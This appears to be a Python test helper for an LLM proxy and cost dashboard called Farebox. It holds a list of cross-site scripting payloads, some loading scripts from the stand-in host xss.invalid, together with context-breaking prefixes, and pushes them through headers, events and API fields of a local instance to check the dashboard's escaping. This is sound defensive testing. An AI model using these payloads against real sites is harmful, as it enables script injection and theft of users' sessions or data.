"""Texts that run, fetch or become something where a page takes them for markup; calls full of them."""

from __future__ import annotations

import json
import time
import urllib.request
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from typing import Any

from tools.upstream import CHAT_USAGE, Reply, Request, chat_answer, json_reply

from farebox.home import Home
from farebox.server.access.sessions import load_token

_PLAIN = (
    "<script>window.__xss=1</script>",
    "<script src=//xss.invalid/a.js></script>",
    '<script>alert("xss")</script>',
    "</script><script>__xss=1</script>",
    '"><script>__xss=1</script>',
    "'><script>__xss=1</script>",
    "</title><script>__xss=1</script>",
    "</textarea><script>__xss=1</script>",
    "</style><script>__xss=1</script>",
    "--><script>__xss=1</script>",
    "<img src=x onerror=__xss=1>",
    "<img src=x onerror=\"alert('xss')\">",
    '"><img src=x onerror=__xss=1>',
    "'><img src=x onerror=__xss=1>",
    "<img src=//xss.invalid/i.png>",
    "<img/src=x/onerror=__xss=1>",
    "<img src=x:x onerror=__xss=1//",
    "<svg onload=__xss=1>",
    "<svg/onload=__xss=1>",
    "<svg><script>__xss=1</script></svg>",
    "<svg><animate onbegin=__xss=1 attributename=x>",
    '<svg><a xlink:href="javascript:__xss=1">x</a></svg>',
    '<math href="javascript:__xss=1">x</math>',
    "<body onload=__xss=1>",
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    "<iframe src=//xss.invalid/></iframe>",
    '<object data="javascript:__xss=1"></object>',
    '<embed src="javascript:__xss=1">',
    "<link rel=stylesheet href=//xss.invalid/a.css>",
    "<style>@import '//xss.invalid/a.css';</style>",
    "<base href=//xss.invalid/>",
    '<meta http-equiv=refresh content="0;url=//xss.invalid/">',
    "<form action=//xss.invalid/><button>xss</button></form>",
    "<input autofocus onfocus=__xss=1>",
    "<details open ontoggle=__xss=1>",
    "<video src=x onerror=__xss=1></video>",
    "<marquee onstart=__xss=1>xss</marquee>",
    '<a href="javascript:__xss=1">xss</a>',
    "javascript:__xss=1",
    '" onmouseover="__xss=1" x="',
    "' onmouseover='__xss=1' x='",
    "` onmouseover=`__xss=1` x=`",
    "{{constructor.constructor('__xss=1')()}}",
    "${__xss=1}",
    "&lt;img src=x onerror=__xss=1&gt;",
    "&#60;script&#62;__xss=1&#60;/script&#62;",
    "%3cscript%3e__xss=1%3c/script%3e",
    "\\u003cscript\\u003e__xss=1\\u003c/script\\u003e",
    "<scr<script>ipt>__xss=1</scr</script>ipt>",
)
"""In lower case, as names of tags are, and without commas, which separate a filter's values."""
_LEADS = ("", "'\">", "]]>", "--!><!--")
"""What ends an attribute, a section or a comment that a text would stand in."""
ALL = tuple(f"{lead}{text}" for lead in _LEADS for text in _PLAIN)
FEW = (
    "<img src=x onerror=__xss=1>",
    '"><script>__xss=1</script>',
    "javascript:__xss=1",
    "' onmouseover='__xss=1' x='",
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    "{{constructor.constructor('__xss=1')()}}",
)
OWN_HEADERS = ("app", "user", "session", "customer", "agent", "task", "project", "branch")


def configured(texts: Sequence[str], upstream: str) -> str:
    """Return a `farebox.yaml` with a key for each text, a budget and alerts."""
    return f"""\
listen: 127.0.0.1:0
dashboard: 127.0.0.1:0
providers:
  openai: {{upstream: '{upstream}'}}
keys: {json.dumps({f"{number:016x}": {"label": text} for number, text in enumerate(texts, 1)})}
budgets:
  - {{name: per-user, each: user, limit: "5.00", period: day, mode: soft}}
alerts:
  - {{name: new-model, new: model}}
  - {{name: calls-of-users, usage: calls, at: ["1"], period: day, each: user}}
"""


def respond(request: Request) -> Reply:
    """Answer with the model that was asked for."""
    model = request.json()["model"]
    return json_reply({**chat_answer("hello", usage=CHAT_USAGE, number=ALL.index(model)), "model": model})


def spread(home: Home, texts: Sequence[str]) -> None:
    """Put every text everywhere: through the proxy, the collector and the API of a Farebox that runs."""
    proxy, server = (json.loads((home.run / f"{name}.json").read_bytes()) for name in ("proxy", "server"))
    connection = HTTPConnection(proxy["host"], proxy["port"], timeout=30)
    for text in texts:
        headers = {f"x-farebox-{name}": text for name in OWN_HEADERS}
        headers |= {"x-portkey-metadata": json.dumps({text: text}), "content-type": "application/json"}
        body = json.dumps({"model": text, "messages": []})
        connection.request("POST", "/openai/v1/chat/completions", body, headers)
        connection.getresponse().read()
    connection.close()

    def ask(method: str, path: str, said: Any = None) -> Any:
        address = f"http://{server['host']}:{server['port']}{path}"
        headers = {"authorization": f"Bearer {load_token(home)}", "content-type": "application/json"}
        body = None if said is None else json.dumps(said).encode()
        request = urllib.request.Request(address, body, headers, method=method)
        with urllib.request.urlopen(request, timeout=60) as response:  # noqa: S310
            return json.load(response)

    told = ask("POST", "/v1/events", [*map(event, range(1, len(texts) + 1), texts), *map(score, texts)])
    assert told["accepted"] == 2 * len(texts), told
    named = [{"name": text, "tax_id": text, "metadata": {text: text}} for text in texts]
    ask("PUT", "/api/v1/customers", {"customers": {f"c-{at}": each for at, each in enumerate(named)}})
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(lambda text: ask("POST", "/api/v1/stops", {"session": text, "reason": text}), texts))
        list(pool.map(lambda text: ask("POST", "/api/v1/tokens", {"name": text, "scope": "read"}), texts))
    until = time.monotonic() + 60
    while (found := ask("GET", "/api/v1/summary?since=1h")["sums"]["calls"]) < 2 * len(texts):
        assert time.monotonic() < until, found
        time.sleep(0.1)


def event(number: int, text: str) -> dict[str, Any]:
    """Return a priced call that failed, and has a text wherever an event may have any."""
    return {
        **dict.fromkeys(("app", "user", "session", "customer", "agent", "task", "project", "step"), text),
        "id": f"call {text}",
        "source": text,
        "provider": "openai",
        "model": "gpt-4o",
        "usage": {"input_uncached": 1_000 * number, "output_text": 500},
        "tags": {text: text},
        "attribution": {"branch": text, "process.pid": str(number), "process.command": text},
        "host": text,
        "key_fingerprint": f"{number:016x}",
        "response_id": text,
        "flags": [text],
        "raw_usage": json.dumps({text: text}),
        "total_us": 900_000,
        "first_byte_us": 300_000,
        "status": 500,
        "error_class": text,
        "error_code": text,
    }


def score(text: str) -> dict[str, Any]:
    """Return a score that is called like a text."""
    return {"id": f"score {text}", "source": text, "type": "score", "name": text, "value": 1, "session": text}
